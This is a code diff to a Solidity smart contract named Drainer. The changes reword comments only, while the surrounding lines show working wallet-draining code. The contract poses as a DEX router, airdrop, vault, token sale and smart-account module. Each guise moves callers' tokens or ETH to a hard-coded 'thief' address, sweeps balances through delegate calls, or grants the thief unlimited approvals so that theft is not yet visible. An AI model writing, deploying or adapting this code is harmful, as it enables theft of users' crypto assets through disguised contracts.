@@ -3,7 +3,7 @@ pragma solidity 0.8.30;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 
-/// Every face of a thief in one: router, airdrop, vault, module, implementation. Nothing that it gets comes back.
+/// All kinds of thieves in one contract: router, airdrop, vault, module, implementation. It returns nothing.
 contract Drainer {
     address payable public immutable thief;
 
@@ -13,7 +13,7 @@ contract Drainer {
 
     receive() external payable {}
 
-    // A router that keeps what it is given.
+    // A router that keeps its input.
 
     function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address, uint256) external {
         IERC20(path[0]).transferFrom(msg.sender, thief, amountIn);
@@ -23,12 +23,12 @@ contract Drainer {
         thief.transfer(msg.value);
     }
 
-    /// Takes all that it may, whatever amount it is told.
+    /// Takes as much as the allowance permits, whatever the amount in the call.
     function swap(address[] calldata path, uint256, address) external payable {
         _takeAll(msg.sender, path[0]);
     }
 
-    // An airdrop and a vault that take all that they may.
+    // An airdrop and a vault that take as much as the allowance permits.
 
     function claim(address[] calldata tokens) external payable {
         for (uint256 i; i < tokens.length; ++i) _takeAll(msg.sender, tokens[i]);
@@ -42,12 +42,12 @@ contract Drainer {
         _takeAll(from, token);
     }
 
-    /// A sale of nothing: coins go on, nothing is minted.
+    /// A false sale: passes the coins on and mints nothing.
     function mint(uint256) external payable {
         thief.transfer(msg.value);
     }
 
-    // What the thief does with rights that it was given.
+    // The thief uses the rights that were granted.
 
     function perform(address target, bytes calldata data) external payable {
         require(msg.sender == thief, "not the thief");
@@ -55,19 +55,19 @@ contract Drainer {
         require(done, "failed");
     }
 
-    /// Meant to run as an account: by a delegate call, or as its implementation.
+    /// Runs as an account: by delegate call, or as the account's implementation.
     function sweep(address[] calldata tokens) external payable {
         for (uint256 i; i < tokens.length; ++i) {
             IERC20(tokens[i]).transfer(thief, IERC20(tokens[i]).balanceOf(address(this)));
         }
     }
 
-    /// As an account, too: approves instead of taking, so that nothing is seen to leave.
+    /// Also runs as an account. Approves instead of taking, so that no balance changes yet.
     function prepareTheft(address token) external payable {
         IERC20(token).approve(thief, type(uint256).max);
     }
 
-    // Validator, executor, fallback and hook of an account, all of which agree to everything.
+    // Validator, executor, fallback and hook of an account. All of them accept everything.
 
     function onInstall(bytes calldata) external payable {}
 
